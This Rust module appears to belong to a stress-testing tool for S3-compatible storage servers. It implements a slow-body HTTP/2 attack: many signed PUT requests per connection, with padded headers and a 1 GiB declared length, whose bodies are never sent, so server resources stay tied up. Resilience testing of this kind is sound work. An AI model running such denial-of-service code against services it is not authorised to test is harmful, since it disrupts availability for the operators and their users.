//! Requests with large heads, many on each HTTP/2 connection, whose bodies never come.

use super::attack::Attack;
use super::client::{Order, sign};
use bytes::Bytes;
use http::Request;
use http_body::{Body, Frame};
use hyper::client::conn::http2;
use hyper_util::rt::{TokioExecutor, TokioIo};
use std::convert::Infallible;
use std::io;
use std::pin::Pin;
use std::sync::Arc;
use std::task::{Context, Poll};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

/// A body that has not begun.
struct Never;

impl Body for Never {
    type Data = Bytes;
    type Error = Infallible;

    fn poll_frame(
        self: Pin<&mut Self>,
        _: &mut Context<'_>,
    ) -> Poll<Option<Result<Frame<Bytes>, Infallible>>> {
        Poll::Pending
    }
}

/// Sends all requests of one connection and waits for their answers; returns the last one's
/// status.
pub async fn heads(attack: Arc<Attack>, number: usize) -> io::Result<u16> {
    let settings = &attack.settings;
    let stream = TcpStream::connect(&settings.endpoint).await?;
    let (mut sender, connection) = http2::Builder::new(TokioExecutor::new())
        .handshake(TokioIo::new(stream))
        .await
        .map_err(io::Error::other)?;
    let mut tasks = JoinSet::new();
    tasks.spawn(async move { connection.await.map(|()| 0).map_err(io::Error::other) });
    for stream in 0..settings.streams {
        sender.ready().await.map_err(io::Error::other)?;
        let path = format!("/{}/head-{number}-{stream}", settings.bucket);
        let (signed, date) = sign(settings, Order::new("PUT", &path));
        let request = Request::put(format!("http://{}{path}", settings.endpoint))
            .header("x-amz-date", date)
            .header("x-amz-content-sha256", "UNSIGNED-PAYLOAD")
            .header("authorization", signed.authorization)
            .header("content-length", 1 << 30)
            .header("x-padding", "p".repeat(settings.head_bytes))
            .body(Never)
            .map_err(io::Error::other)?;
        let answer = sender.send_request(request);
        let attack = Arc::clone(&attack);
        tasks.spawn(async move {
            let status = answer.await.map_err(io::Error::other)?.status().as_u16();
            attack.note(format!("stream {status}"));
            Ok(status)
        });
    }
    let mut last = 0;
    while let Some(ended) = tasks.join_next().await {
        last = ended.map_err(io::Error::other)??;
        if tasks.len() == 1 {
            // Only the connection itself is left.
            return Ok(last);
        }
    }
    Ok(last)
}
